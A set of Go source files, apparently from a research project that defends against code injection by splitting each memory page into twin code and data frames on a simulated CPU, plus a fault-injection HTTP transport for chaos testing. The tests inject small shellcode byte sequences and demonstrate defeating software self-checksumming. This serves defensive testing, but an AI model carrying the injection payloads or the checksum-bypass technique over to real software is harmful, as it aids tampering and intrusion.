// roll draws once. Callers hold l.mu.
func (l *link) roll(rate float64) bool {
	if rate <= 0 {
		return false
	}
	return float64(l.next()>>11)/(1<<53) < rate
}

// plan is one request's fault schedule, drawn atomically under the link
// lock so the decision sequence is a pure function of (seed, link,
// request ordinal).
type plan struct {
	partition     bool
	partitionAsym bool
	latency       time.Duration
	reset         bool
	resetMid      bool
	resetMidAfter int
	slow          bool
	truncate      bool
	truncateAfter int
	corruptHeader bool
	corrupt       bool
	corruptOff    int
	corruptBit    byte
}

func (m *Mesh) plan(req *http.Request) plan {
	l := m.link(req.URL.Host)
	l.mu.Lock()
	defer l.mu.Unlock()

	var p plan
	// An open partition window dominates everything: it swallows requests
	// without consuming further stream draws.
	if l.partLeft > 0 {
		l.partLeft--
		p.partition, p.partitionAsym = true, l.partAsym
		return p
	}
	if l.roll(m.cfg.Partition) {
		l.partAsym = l.roll(m.cfg.Asymmetric)
		l.partLeft = m.cfg.PartitionLen - 1 // this request consumes the first slot
		m.partitionWindows.Add(1)
		p.partition, p.partitionAsym = true, l.partAsym
		return p
	}
	if l.roll(m.cfg.Latency) {
		span := uint64(m.cfg.LatencyMax-m.cfg.LatencyMin) + 1
		p.latency = m.cfg.LatencyMin + time.Duration(l.next()%span)
	}
	p.reset = l.roll(m.cfg.Reset)
	if l.roll(m.cfg.ResetMid) {
		p.resetMid = true
		p.resetMidAfter = 1 + int(l.next()%1024)
	}
	p.slow = l.roll(m.cfg.SlowLoris)
	if l.roll(m.cfg.Truncate) {
		p.truncate = true
		p.truncateAfter = 1 + int(l.next()%1024)
	}
	p.corruptHeader = l.roll(m.cfg.CorruptHeader)
	if l.roll(m.cfg.Corrupt) && m.corruptiblePath(req.URL.Path) {
		p.corrupt = true
		pos := l.next()
		p.corruptOff = int(pos % 4096)
		p.corruptBit = byte(pos>>32) % 8
	}
	return p
}

func (m *Mesh) corruptiblePath(path string) bool {
	if len(m.cfg.CorruptPaths) == 0 {
		return true
	}
	for _, sub := range m.cfg.CorruptPaths {
		if sub != "" && contains(path, sub) {
			return true
		}
	}
	return false
}

func contains(s, sub string) bool {
	for i := 0; i+len(sub) <= len(s); i++ {
		if s[i:i+len(sub)] == sub {
			return true
		}
	}
	return false
}

type transport struct {
	mesh  *Mesh
	inner http.RoundTripper
}

func (t *transport) RoundTrip(req *http.Request) (*http.Response, error) {
	m := t.mesh
	if m.disabled.Load() {
		return t.inner.RoundTrip(req)
	}
	p := m.plan(req)

	if p.partition {
		m.partitionDrops.Add(1)
		if !p.partitionAsym {
			return nil, ErrInjectedPartition
		}
		// Asymmetric: the request reaches the replica and takes effect
		// there; the response vanishes on the way back.
		resp, err := t.inner.RoundTrip(req)
		if err == nil && resp != nil {
			resp.Body.Close()
		}
		return nil, ErrInjectedPartition
	}
	if p.latency > 0 {
		m.latencies.Add(1)
		tm := time.NewTimer(p.latency)
		select {
		case <-tm.C:
		case <-req.Context().Done():
			tm.Stop()
			return nil, req.Context().Err()
		}
	}
	if p.reset {
		m.resets.Add(1)
		return nil, ErrInjectedReset
	}

	resp, err := t.inner.RoundTrip(req)
	if err != nil || resp == nil {
		return resp, err
	}
	if p.corruptHeader {
		m.headerCorruptions.Add(1)
		corruptHeaders(resp.Header)
	}
	// Wrap innermost-first so corruption happens before truncation can
	// hide it and slow-loris delays apply to whatever survives.
	body := resp.Body
	if p.corrupt {
		m.bodyCorruptions.Add(1)
		body = &corruptBody{rc: body, off: p.corruptOff, bit: p.corruptBit}
	}
	if p.truncate {
		m.truncations.Add(1)
		body = &truncateBody{rc: body, left: p.truncateAfter}
	}
	if p.resetMid {
		m.midResets.Add(1)
		body = &resetBody{rc: body, left: p.resetMidAfter}
	}
	if p.slow {
		m.slowLoris.Add(1)
		body = &slowBody{rc: body, delay: m.cfg.SlowLorisDelay, left: m.cfg.SlowLorisBytes}
	}
	resp.Body = body
	return resp, nil
}

// corruptHeaders mangles advisory response metadata: Retry-After becomes
// unparseable (receivers must fall back to their own backoff) and the
// Content-Type gets a flipped first byte. Neither touches the payload, so
// stream framing stays intact — header corruption tests the parsers, body
// corruption tests the checksums.
func corruptHeaders(h http.Header) {
	if h.Get("Retry-After") != "" {
		h.Set("Retry-After", "garbled")
	}
	if ct := h.Get("Content-Type"); ct != "" {
		b := []byte(ct)
		b[0] ^= 0x20
		h.Set("Content-Type", string(b))
	}
}

// truncateBody ends the response cleanly after left bytes: the peer
// looks like it closed the stream mid-message.
type truncateBody struct {
	rc   io.ReadCloser
	left int
}

func (b *truncateBody) Read(p []byte) (int, error) {
	if b.left <= 0 {
		return 0, io.EOF
	}
	if len(p) > b.left {
		p = p[:b.left]
	}
	n, err := b.rc.Read(p)
	b.left -= n
	return n, err
}

func (b *truncateBody) Close() error { return b.rc.Close() }

// resetBody dies after left bytes with a reset error — the mid-response
// connection loss a crashing middlebox produces.
type resetBody struct {
	rc   io.ReadCloser
	left int
}

func (b *resetBody) Read(p []byte) (int, error) {
	if b.left <= 0 {
		return 0, ErrInjectedReset
	}
	if len(p) > b.left {
		p = p[:b.left]
	}
	n, err := b.rc.Read(p)
	b.left -= n
	return n, err
}

func (b *resetBody) Close() error { return b.rc.Close() }

// slowBody trickles the first left bytes one at a time with a delay each —
// slow-loris from the server side. Total added stall is bounded by
// left*delay, so deadlines and watchdogs, not luck, decide survival.
type slowBody struct {
	rc    io.ReadCloser
	delay time.Duration
	left  int
}

func (b *slowBody) Read(p []byte) (int, error) {
	if b.left <= 0 || len(p) == 0 {
		return b.rc.Read(p)
	}
	b.left--
	time.Sleep(b.delay)
	return b.rc.Read(p[:1])
}

func (b *slowBody) Close() error { return b.rc.Close() }

// corruptBody flips one bit at a fixed stream offset (if the body is long
// enough to reach it).
type corruptBody struct {
	rc   io.ReadCloser
	off  int
	bit  byte
	seen int
}

func (b *corruptBody) Read(p []byte) (int, error) {
	n, err := b.rc.Read(p)
	if n > 0 && b.off >= b.seen && b.off < b.seen+n {
		p[b.off-b.seen] ^= 1 << b.bit
	}
	b.seen += n
	return n, err
}

func (b *corruptBody) Close() error { return b.rc.Close() }
