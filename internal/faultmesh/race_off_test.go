//go:build !race

package faultmesh

// campaignClients is the chaos-campaign client count without the race
// detector: the full acceptance-scale load.
const campaignClients = 200
