package core

import (
	"bytes"
	"testing"

	"splitmem/internal/asm"
	"splitmem/internal/cpu"
	"splitmem/internal/isa"
	"splitmem/internal/kernel"
	"splitmem/internal/loader"
	"splitmem/internal/mem"
	"splitmem/internal/paging"
)

func newSplitKernel(t *testing.T, cfg Config) (*kernel.Kernel, *Engine) {
	t.Helper()
	m, err := cpu.New(cpu.Config{PhysBytes: 8 << 20})
	if err != nil {
		t.Fatal(err)
	}
	eng := New(cfg)
	k, err := kernel.New(kernel.Config{Machine: m, Protector: eng})
	if err != nil {
		t.Fatal(err)
	}
	return k, eng
}

func spawnSrc(t *testing.T, k *kernel.Kernel, src string) *kernel.Process {
	t.Helper()
	prog, err := asm.Assemble(src)
	if err != nil {
		t.Fatal(err)
	}
	p, err := k.Spawn(prog, kernel.ProcOptions{Name: "t"})
	if err != nil {
		t.Fatal(err)
	}
	return p
}

const trivialSrc = `
_start:
    mov esi, datum
    load eax, [esi]
    mov ebx, 0
    mov eax, 1
    int 0x80
.data
datum: .word 0x1234
`

// TestMapPageCreatesTwins: after spawn, every mapped page has two distinct
// frames and a restricted (supervisor) PTE with the Split bit.
func TestMapPageCreatesTwins(t *testing.T) {
	k, eng := newSplitKernel(t, Config{})
	p := spawnSrc(t, k, trivialSrc)
	n := 0
	p.PT.Range(func(vpn uint32, e paging.Entry) bool {
		if !e.Present() {
			return true
		}
		n++
		if !e.Split() {
			t.Errorf("page %#x: Split bit missing", vpn)
		}
		if e.User() {
			t.Errorf("page %#x: must be restricted (supervisor)", vpn)
		}
		code, data, ok := eng.Pair(p, vpn)
		if !ok {
			t.Errorf("page %#x: no twin pair", vpn)
			return true
		}
		if code == data {
			t.Errorf("page %#x: twins share a frame", vpn)
		}
		if e.Frame() != data {
			t.Errorf("page %#x: PTE should start on the data twin", vpn)
		}
		return true
	})
	if n == 0 {
		t.Fatal("no pages mapped")
	}
	st := eng.Stats()
	if st.TotalSplits != uint64(n) || st.SplitPages != uint64(n) {
		t.Fatalf("stats=%+v n=%d", st, n)
	}
}

// TestExecutableTwinsAreCopies: for code pages both twins hold the program
// bytes; for data-only pages in break mode both twins hold the data.
func TestExecutableTwinsAreCopies(t *testing.T) {
	k, eng := newSplitKernel(t, Config{Response: Break})
	p := spawnSrc(t, k, trivialSrc)
	p.PT.Range(func(vpn uint32, e paging.Entry) bool {
		code, data, ok := eng.Pair(p, vpn)
		if !ok {
			return true
		}
		if !bytes.Equal(k.Phys().Frame(code), k.Phys().Frame(data)) {
			t.Errorf("page %#x: twins differ at map time in break mode", vpn)
		}
		return true
	})
}

// TestObserveTwinsAreMarkerFilled: in observe mode the code twin of a
// non-executable page is filled with the undefined opcode.
func TestObserveTwinsAreMarkerFilled(t *testing.T) {
	k, eng := newSplitKernel(t, Config{Response: Observe})
	p := spawnSrc(t, k, trivialSrc)
	checked := false
	p.PT.Range(func(vpn uint32, e paging.Entry) bool {
		code, _, ok := eng.Pair(p, vpn)
		if !ok {
			return true
		}
		// Data section page (writable): twin must be all OpUndef.
		if e.Writable() {
			checked = true
			for _, b := range k.Phys().Frame(code) {
				if b != byte(isa.OpUndef) {
					t.Fatalf("page %#x: code twin not marker-filled (%#x)", vpn, b)
				}
			}
		}
		return true
	})
	if !checked {
		t.Fatal("no writable page checked")
	}
}

// TestRunRoutesDataAndCode: running a program that both executes and loads
// data exercises Algorithms 1 and 2 end to end; guest-visible values must
// be unaffected by the split.
func TestRunRoutesDataAndCode(t *testing.T) {
	src := `
_start:
    mov esi, datum
    load ebx, [esi]        ; data view
    mov eax, 1
    int 0x80               ; exit(datum)
.data
datum: .word 55
`
	k, eng := newSplitKernel(t, Config{})
	p := spawnSrc(t, k, src)
	k.Run(0)
	if _, status := p.Exited(); status != 55 {
		t.Fatalf("status=%d", status)
	}
	st := eng.Stats()
	if st.CodeTLBLoads == 0 || st.DataTLBLoads == 0 {
		t.Fatalf("stats=%+v", st)
	}
}

// TestInjectionViaKernelWriteIsUnfetchable: writing shellcode through the
// kernel's CopyToUser (i.e. read(2)) must only reach the data twin.
func TestInjectionViaKernelWriteIsUnfetchable(t *testing.T) {
	k, eng := newSplitKernel(t, Config{})
	p := spawnSrc(t, k, trivialSrc)
	datum, _ := mustSym(t, trivialSrc, "datum")
	vpn := paging.VPN(datum)
	payload := []byte{0x90, 0x90, 0xCD, 0x80}
	if err := k.CopyToUser(p, datum, payload); err != nil {
		t.Fatal(err)
	}
	code, data, _ := eng.Pair(p, vpn)
	off := datum & mem.PageMask
	if !bytes.Equal(k.Phys().Frame(data)[off:off+4], payload) {
		t.Fatal("payload missing from the data twin")
	}
	if bytes.Equal(k.Phys().Frame(code)[off:off+4], payload) {
		t.Fatal("payload reached the code twin")
	}
	got, err := k.CopyFromUser(p, datum, 4)
	if err != nil || !bytes.Equal(got, payload) {
		t.Fatalf("read back %x err=%v", got, err)
	}
}

func mustSym(t *testing.T, src, name string) (uint32, *loader.Program) {
	t.Helper()
	prog, err := asm.Assemble(src)
	if err != nil {
		t.Fatal(err)
	}
	v, ok := prog.Symbol(name)
	if !ok {
		t.Fatalf("no symbol %s", name)
	}
	return v, prog
}

// TestFractionSelection: Fraction=0.5 splits roughly half the pages and is
// deterministic for a fixed seed.
func TestFractionSelection(t *testing.T) {
	split, unsplit := 0, 0
	e := New(Config{Fraction: 0.5, Seed: 42})
	for vpn := uint32(0); vpn < 4096; vpn++ {
		if e.shouldSplit(vpn, loader.PermR|loader.PermW) {
			split++
		} else {
			unsplit++
		}
	}
	if split < 1500 || split > 2600 {
		t.Fatalf("split=%d of 4096 at fraction 0.5", split)
	}
	// Deterministic.
	e2 := New(Config{Fraction: 0.5, Seed: 42})
	for vpn := uint32(0); vpn < 256; vpn++ {
		if e.shouldSplit(vpn, 0) != e2.shouldSplit(vpn, 0) {
			t.Fatal("fraction selection not deterministic")
		}
	}
	// Different seed, different selection.
	e3 := New(Config{Fraction: 0.5, Seed: 43})
	same := 0
	for vpn := uint32(0); vpn < 256; vpn++ {
		if e.shouldSplit(vpn, 0) == e3.shouldSplit(vpn, 0) {
			same++
		}
	}
	if same == 256 {
		t.Fatal("seed does not affect selection")
	}
}

// TestMixedOnlySelection: only write+execute pages split.
func TestMixedOnlySelection(t *testing.T) {
	e := New(Config{MixedOnly: true})
	if e.shouldSplit(1, loader.PermR|loader.PermX) {
		t.Fatal("r-x page must not split in mixed-only mode")
	}
	if e.shouldSplit(1, loader.PermR|loader.PermW) {
		t.Fatal("rw- page must not split in mixed-only mode")
	}
	if !e.shouldSplit(1, loader.PermR|loader.PermW|loader.PermX) {
		t.Fatal("rwx page must split in mixed-only mode")
	}
	if !e.cfg.UnsplitNX {
		t.Fatal("mixed-only implies NX fallback")
	}
}

// TestForkCopiesTwins: fork duplicates both twins eagerly; child mutations
// stay in the child.
func TestForkCopiesTwins(t *testing.T) {
	src := `
_start:
    mov eax, 2             ; fork
    int 0x80
    cmp eax, 0
    jz child
    mov ebx, -1
    mov ecx, 0
    mov eax, 7             ; waitpid
    int 0x80
    mov esi, datum
    load ebx, [esi]
    mov eax, 1
    int 0x80
child:
    mov esi, datum
    mov edx, 9
    store [esi], edx
    mov ebx, 0
    mov eax, 1
    int 0x80
.data
datum: .word 7
`
	k, _ := newSplitKernel(t, Config{})
	p := spawnSrc(t, k, src)
	free0 := k.Phys().FreeFrames()
	_ = free0
	k.Run(0)
	if _, status := p.Exited(); status != 7 {
		t.Fatalf("status=%d: child write visible in parent", status)
	}
}

// TestFrameConservationUnderSplit: both twins of every page come back to
// the allocator at teardown (§5.4).
func TestFrameConservationUnderSplit(t *testing.T) {
	k, _ := newSplitKernel(t, Config{})
	free0 := k.Phys().FreeFrames()
	spawnSrc(t, k, trivialSrc)
	res := k.Run(0)
	if res.Reason != kernel.ReasonAllDone {
		t.Fatalf("reason=%v", res.Reason)
	}
	if got := k.Phys().FreeFrames(); got != free0 {
		t.Fatalf("leaked %d frames", free0-got)
	}
}

// TestObserveLockInFreesCodeTwin: when observe mode locks a page to its
// data twin, the code twin frame is freed and the Split bit cleared.
func TestObserveLockInFreesCodeTwin(t *testing.T) {
	// Victim jumps into its own .data (attack without any I/O).
	src := `
_start:
    mov ecx, payload
    jmp ecx
.data
payload: .byte 0xbb, 0x07, 0, 0, 0      ; mov ebx, 7
         .byte 0xb8, 0x01, 0, 0, 0      ; mov eax, 1
         .byte 0xcd, 0x80               ; int 0x80
`
	k, eng := newSplitKernel(t, Config{Response: Observe})
	p := spawnSrc(t, k, src)
	payload, _ := mustSym(t, src, "payload")
	k.Run(0)
	// Observe mode let the "attack" run: process exits with 7.
	exited, status := p.Exited()
	if !exited || status != 7 {
		t.Fatalf("exited=%v status=%d", exited, status)
	}
	vpn := paging.VPN(payload)
	if _, _, ok := eng.Pair(p, vpn); ok {
		t.Fatal("pair should be dissolved after lock-in")
	}
	st := eng.Stats()
	if st.ObserveLockIn != 1 || st.Detections != 1 {
		t.Fatalf("stats=%+v", st)
	}
}

// TestBreakModeSIGILL: a genuine runtime injection (delivered via read(2),
// so it only ever reaches the data twin), break mode: killed with SIGILL
// and the dump carries the injected bytes.
func TestBreakModeSIGILL(t *testing.T) {
	src := `
_start:
    mov ebx, 0
    mov ecx, payload
    mov edx, 16
    mov eax, 3             ; read the "attack" into .data
    int 0x80
    mov ecx, payload
    jmp ecx
.data
payload: .space 16
`
	k, _ := newSplitKernel(t, Config{Response: Break})
	p := spawnSrc(t, k, src)
	payload, _ := mustSym(t, src, "payload")
	p.StdinWrite([]byte{0xbb, 0x07, 0, 0, 0})
	k.Run(0)
	killed, sig := p.Killed()
	if !killed || sig != kernel.SIGILL {
		t.Fatalf("killed=%v sig=%v", killed, sig)
	}
	evs := k.EventsOf(kernel.EvInjectionDetected)
	if len(evs) != 1 || evs[0].Addr != payload {
		t.Fatalf("events=%+v", evs)
	}
	if evs[0].Data[0] != 0xbb {
		t.Fatalf("dump % x should start with the injected mov", evs[0].Data)
	}
}

// TestForensicsSubstitution: the forensic shellcode replaces the payload.
func TestForensicsSubstitution(t *testing.T) {
	src := `
_start:
    mov ecx, payload
    jmp ecx
.data
payload: .byte 0xbb, 0x09, 0, 0, 0      ; attacker wanted exit(9)
         .byte 0xb8, 0x01, 0, 0, 0
         .byte 0xcd, 0x80
`
	k, _ := newSplitKernel(t, Config{Response: Forensics, ForensicShellcode: ExitShellcode()})
	p := spawnSrc(t, k, src)
	k.Run(0)
	exited, status := p.Exited()
	if !exited || status != 0 {
		t.Fatalf("exited=%v status=%d: forensic exit(0) should run instead", exited, status)
	}
	if len(k.EventsOf(kernel.EvForensicDump)) != 1 {
		t.Fatal("no dump event")
	}
}

// TestForensicsWithoutShellcodeKills: no substitute configured -> kill
// after dumping.
func TestForensicsWithoutShellcodeKills(t *testing.T) {
	src := `
_start:
    mov ecx, payload
    jmp ecx
.data
payload: .byte 0xbb, 0x09, 0, 0, 0
`
	k, _ := newSplitKernel(t, Config{Response: Forensics})
	p := spawnSrc(t, k, src)
	k.Run(0)
	killed, sig := p.Killed()
	if !killed || sig != kernel.SIGILL {
		t.Fatalf("killed=%v sig=%v", killed, sig)
	}
	if len(k.EventsOf(kernel.EvForensicDump)) != 1 {
		t.Fatal("no dump event")
	}
}

// TestMprotectKeepsTwins: changing permissions on a split page must not
// resynchronize the twins (the NX-bypass defense).
func TestMprotectKeepsTwins(t *testing.T) {
	k, eng := newSplitKernel(t, Config{})
	p := spawnSrc(t, k, trivialSrc)
	datum, _ := mustSym(t, trivialSrc, "datum")
	vpn := paging.VPN(datum)
	codeBefore, dataBefore, _ := eng.Pair(p, vpn)
	// Write "shellcode" into the data twin, then flip the page rwx.
	if err := k.CopyToUser(p, datum, []byte{0xCD, 0x80}); err != nil {
		t.Fatal(err)
	}
	if !eng.ProtectPage(k, p, vpn, p.PT.Get(vpn), loader.PermR|loader.PermW|loader.PermX) {
		t.Fatal("ProtectPage not handled")
	}
	codeAfter, dataAfter, ok := eng.Pair(p, vpn)
	if !ok || codeAfter != codeBefore || dataAfter != dataBefore {
		t.Fatal("twins changed across mprotect")
	}
	off := datum & mem.PageMask
	if k.Phys().Frame(codeAfter)[off] == 0xCD {
		t.Fatal("mprotect leaked data-twin bytes into the code twin")
	}
}

// TestUnsplitNXFallback: with MixedOnly, plain pages get NX, and a fetch
// from an NX data page is detected by the engine's fallback path.
func TestUnsplitNXFallback(t *testing.T) {
	m, err := cpu.New(cpu.Config{PhysBytes: 8 << 20, NXEnabled: true})
	if err != nil {
		t.Fatal(err)
	}
	eng := New(Config{MixedOnly: true})
	k, err := kernel.New(kernel.Config{Machine: m, Protector: eng})
	if err != nil {
		t.Fatal(err)
	}
	src := `
_start:
    mov ecx, payload
    jmp ecx                ; fetch from an NX data page
.data
payload: .byte 0x90, 0x90
`
	p := spawnSrc(t, k, src)
	k.Run(0)
	killed, sig := p.Killed()
	if !killed || sig != kernel.SIGSEGV {
		t.Fatalf("killed=%v sig=%v", killed, sig)
	}
	if eng.Stats().Detections != 1 {
		t.Fatalf("stats=%+v", eng.Stats())
	}
	if eng.Stats().PagesUnsplit == 0 {
		t.Fatal("mixed-only should leave plain pages unsplit")
	}
}

// TestSplitHashUniform sanity-checks the page-selection hash.
func TestSplitHashUniform(t *testing.T) {
	var buckets [8]int
	for vpn := uint32(0); vpn < 8000; vpn++ {
		buckets[splitHash(vpn, 7)>>29]++
	}
	for i, n := range buckets {
		if n < 700 || n > 1300 {
			t.Fatalf("bucket %d has %d of 8000", i, n)
		}
	}
}

// TestResponseModeString covers the stringers.
func TestResponseModeString(t *testing.T) {
	if Break.String() != "break" || Observe.String() != "observe" || Forensics.String() != "forensics" {
		t.Fatal("stringer broken")
	}
	if ResponseMode(99).String() != "unknown" {
		t.Fatal("unknown stringer broken")
	}
}

// TestExitShellcodeBytes pins the published shellcode bytes.
func TestExitShellcodeBytes(t *testing.T) {
	want := []byte{0xbb, 0, 0, 0, 0, 0xb8, 1, 0, 0, 0, 0xcd, 0x80}
	if !bytes.Equal(ExitShellcode(), want) {
		t.Fatalf("shellcode % x", ExitShellcode())
	}
}

// TestOOMFallsBackToUnsplit: when no frame is left for the code twin,
// MapPage degrades to an unsplit mapping instead of losing the page.
func TestOOMFallsBackToUnsplit(t *testing.T) {
	k, eng := newSplitKernel(t, Config{})
	p := spawnSrc(t, k, trivialSrc)
	before := eng.Stats().PagesUnsplit
	// Drain the allocator down to a single frame, which becomes the page
	// to map; the twin allocation inside MapPage must then fail.
	phys := k.Phys()
	for phys.FreeFrames() > 1 {
		if _, err := phys.Alloc(); err != nil {
			t.Fatal(err)
		}
	}
	frame, err := phys.Alloc()
	if err != nil {
		t.Fatal(err)
	}
	eng.MapPage(k, p, 0x70000, frame, loader.PermR|loader.PermW)
	e := p.PT.Get(0x70000)
	if !e.Present() || !e.User() || e.Split() {
		t.Fatalf("fallback PTE=%v", e)
	}
	if eng.Stats().PagesUnsplit != before+1 {
		t.Fatalf("stats=%+v", eng.Stats())
	}
}
