package core

import (
	"fmt"

	"splitmem/internal/telemetry"
)

// engineTel holds the split engine's telemetry instruments. A nil
// *engineTel disables all instrumentation; every hook below guards on
// that single pointer so the disabled path costs one branch per
// protector entry point (which are themselves trap-frequency, never
// instruction-frequency).
type engineTel struct {
	spans *telemetry.SpanBuffer

	// Latency split of the two TLB-load flavors (Algorithm 1 vs.
	// Algorithm 1+2), in simulated cycles.
	itlbLoadCycles *telemetry.Histogram // fault → TF → retry → #DB → re-restrict
	dtlbLoadCycles *telemetry.Histogram // fault → PTE repoint → touch → re-restrict
	// tfRoundTrip measures only the single-step window: from page-fault
	// handler return (TF set) to #DB delivery.
	tfRoundTrip *telemetry.Histogram

	pteFlips   *telemetry.Counter // restrict/unrestrict PTE transitions
	detections *telemetry.Counter // injected-code executions detected

	// Split activity heatmaps: TLB loads per page and per process.
	pageLoads *telemetry.CounterVec
	procLoads *telemetry.CounterVec
}

// newEngineTel registers the engine's instruments into the hub, or
// returns nil when telemetry is disabled.
func newEngineTel(h *telemetry.Hub) *engineTel {
	if h == nil {
		return nil
	}
	r := h.Registry()
	return &engineTel{
		spans: h.Spans(),
		itlbLoadCycles: r.Histogram("splitmem_split_itlb_load_cycles",
			"instruction-TLB load episode latency in simulated cycles (fault to post-#DB re-restrict)", nil),
		dtlbLoadCycles: r.Histogram("splitmem_split_dtlb_load_cycles",
			"data-TLB load episode latency in simulated cycles (fault to re-restrict)", nil),
		tfRoundTrip: r.Histogram("splitmem_split_tf_roundtrip_cycles",
			"trap-flag single-step round trip in simulated cycles (fault return to #DB delivery)", nil),
		pteFlips: r.Counter("splitmem_split_pte_flips_total",
			"restrict/unrestrict pagetable-entry transitions performed by the engine"),
		detections: r.Counter("splitmem_split_detections_total",
			"injected-code executions detected"),
		pageLoads: r.CounterVec("splitmem_split_page_loads_total",
			"split-engine TLB loads per protected page", "page"),
		procLoads: r.CounterVec("splitmem_split_proc_loads_total",
			"split-engine TLB loads per process", "pid"),
	}
}

// heat charges one TLB load to the per-page and per-process heatmaps.
func (t *engineTel) heat(pid int, vpn uint32) {
	t.pageLoads.Add(pageLabel(vpn), 1)
	t.procLoads.Add(fmt.Sprintf("%d", pid), 1)
}

// pageLabel renders a vpn as the page base address heatmap label.
func pageLabel(vpn uint32) string { return fmt.Sprintf("0x%08x", vpn<<12) }
