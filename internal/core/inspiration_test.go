package core

import (
	"testing"

	"splitmem/internal/kernel"
	"splitmem/internal/mem"
	"splitmem/internal/paging"
)

// The paper credits van Oorschot et al. [10] for the TLB-desynchronization
// idea: they used it to DEFEAT software self-checksumming (a program that
// hashes its own code to detect tampering reads the data view while the
// processor executes a different code view). These tests demonstrate that
// inherited property and the multi-process independence of the engine.

// checksumSrc sums its own first 32 text bytes and exits with (sum & 0x7f).
const checksumSrc = `
_start:
    mov esi, _start
    mov ecx, 32
    mov ebx, 0
csum:
    loadb eax, [esi]
    add ebx, eax
    inc esi
    dec ecx
    cmp ecx, 0
    jnz csum
    and ebx, 0x7f
    mov eax, 1
    int 0x80
`

// TestSelfChecksummingDefeated reproduces the [10] scenario on our split
// engine: the kernel (standing in for the tamper) patches the CODE twin of
// the program's text page; the program's self-checksum — a data read —
// still sees the pristine data twin, so the checksum cannot detect that
// the executed instructions changed.
func TestSelfChecksummingDefeated(t *testing.T) {
	// Baseline checksum on an untampered run.
	k1, _ := newSplitKernel(t, Config{})
	p1 := spawnSrc(t, k1, checksumSrc)
	k1.Run(0)
	_, baseline := p1.Exited()

	// Tampered run: flip a byte in the code twin only (the instruction
	// stream changes; we patch a byte inside the checksum window that the
	// CPU never decodes as the first instruction... use a byte of the
	// "mov ecx, 32" immediate so execution still works: the checksum loop
	// would hash it if it read the code view).
	k2, eng := newSplitKernel(t, Config{})
	p2 := spawnSrc(t, k2, checksumSrc)
	entry, _ := mustSym(t, checksumSrc, "_start")
	vpn := paging.VPN(entry)
	code, data, ok := eng.Pair(p2, vpn)
	if !ok {
		t.Fatal("text page not split")
	}
	off := entry & mem.PageMask
	// Patch the immediate of "mov ecx, 32" (bytes 5..9 are b9 20 00 00 00):
	// change the count 32 -> 32 is a no-op; instead patch a byte the
	// checksum READS but execution ignores... every byte here is executed.
	// Patch the code twin's byte 6 (the low immediate byte) from 32 to 31:
	// execution now sums 31 bytes, producing a DIFFERENT exit status, while
	// the data view still contains the original 32.
	if k2.Phys().Frame(code)[off+6] != 32 {
		t.Fatalf("unexpected encoding: %#x", k2.Phys().Frame(code)[off+6])
	}
	k2.Phys().Frame(code)[off+6] = 31
	if k2.Phys().Frame(data)[off+6] != 32 {
		t.Fatal("data twin must keep the original byte")
	}
	k2.Run(0)
	_, tampered := p2.Exited()

	// The executed instruction stream changed (31 vs 32 iterations), so
	// the checksum outcome changed...
	if tampered == baseline {
		t.Fatalf("tampered run should behave differently (both %d)", baseline)
	}
	// ...but the checksum INPUT was identical: the loop read the pristine
	// data twin both times. Verify directly: the sum of the first 31 data
	// bytes (what the tampered run computed) uses original byte values.
	fr := k2.Phys().Frame(data)
	sum := uint32(0)
	for i := uint32(0); i < 31; i++ {
		sum += uint32(fr[off+i])
	}
	if int(sum&0x7f) != tampered {
		t.Fatalf("tampered run computed %d, expected %d from pristine data view", tampered, sum&0x7f)
	}
	// A self-checksum that hashed what actually executes would have seen
	// the 31 byte; the data view never shows it — exactly the [10] defeat.
}

// TestMultiProcessIsolation: two split-protected processes have independent
// twin tables; an attack on one never affects the other.
func TestMultiProcessIsolation(t *testing.T) {
	k, eng := newSplitKernel(t, Config{Response: Break})
	attackSrc := `
_start:
    mov ebx, 0
    mov ecx, payload
    mov edx, 16
    mov eax, 3
    int 0x80
    mov ecx, payload
    jmp ecx
.data
payload: .space 16
`
	victim := spawnSrc(t, k, attackSrc)
	bystander := spawnSrc(t, k, `
_start:
    mov ecx, 2000
spin:
    dec ecx
    cmp ecx, 0
    jnz spin
    mov ebx, 33
    mov eax, 1
    int 0x80
`)
	victim.StdinWrite([]byte{0xCC})
	res := k.Run(0)
	if res.Reason != kernel.ReasonAllDone {
		t.Fatalf("reason=%v", res.Reason)
	}
	if killed, _ := victim.Killed(); !killed {
		t.Fatal("victim should die")
	}
	exited, status := bystander.Exited()
	if !exited || status != 33 {
		t.Fatalf("bystander: exited=%v status=%d", exited, status)
	}
	// Per-process state: the bystander's pairs are unaffected by the
	// victim's teardown.
	if eng.Stats().Detections != 1 {
		t.Fatalf("stats=%+v", eng.Stats())
	}
}

// TestPairAccountingInvariant: across spawn/fork/exit sequences the
// SplitPages gauge matches the live pair tables.
func TestPairAccountingInvariant(t *testing.T) {
	k, eng := newSplitKernel(t, Config{})
	forkSrc := `
_start:
    mov eax, 2
    int 0x80
    cmp eax, 0
    jz child
    mov ebx, -1
    mov ecx, 0
    mov eax, 7
    int 0x80
    mov ebx, 0
    mov eax, 1
    int 0x80
child:
    mov ebx, 0
    mov eax, 1
    int 0x80
`
	for i := 0; i < 3; i++ {
		spawnSrc(t, k, forkSrc)
	}
	k.Run(0)
	if got := eng.Stats().SplitPages; got != 0 {
		t.Fatalf("SplitPages=%d after all processes exited", got)
	}
	if eng.Stats().TotalSplits == 0 {
		t.Fatal("no splits recorded")
	}
}

// TestHoneypotSoak: one machine absorbs a sequence of attacks in observe
// mode — processes, detections and Sebek logs accumulate correctly across
// victims.
func TestHoneypotSoak(t *testing.T) {
	k, eng := newSplitKernel(t, Config{Response: Observe})
	attackSrc := `
_start:
    mov ebx, 0
    mov ecx, payload
    mov edx, 32
    mov eax, 3
    int 0x80
    mov ecx, payload
    jmp ecx
.data
payload: .space 32
`
	// PIC-style payload: exit(7) without embedded addresses.
	shell := []byte{0xBB, 7, 0, 0, 0, 0xB8, 1, 0, 0, 0, 0xCD, 0x80}
	const victims = 5
	for i := 0; i < victims; i++ {
		p := spawnSrc(t, k, attackSrc)
		p.StdinWrite(shell)
		res := k.Run(0)
		if res.Reason != kernel.ReasonAllDone {
			t.Fatalf("victim %d: %v", i, res.Reason)
		}
		// Observe mode let the "attack" run: it exits 7.
		if exited, status := p.Exited(); !exited || status != 7 {
			t.Fatalf("victim %d: exited=%v status=%d", i, exited, status)
		}
	}
	if got := eng.Stats().Detections; got != victims {
		t.Fatalf("detections=%d want %d", got, victims)
	}
	if got := eng.Stats().ObserveLockIn; got != victims {
		t.Fatalf("lockins=%d want %d", got, victims)
	}
	if got := len(k.EventsOf(kernel.EvInjectionObserved)); got != victims {
		t.Fatalf("observed events=%d", got)
	}
	if eng.Stats().SplitPages != 0 {
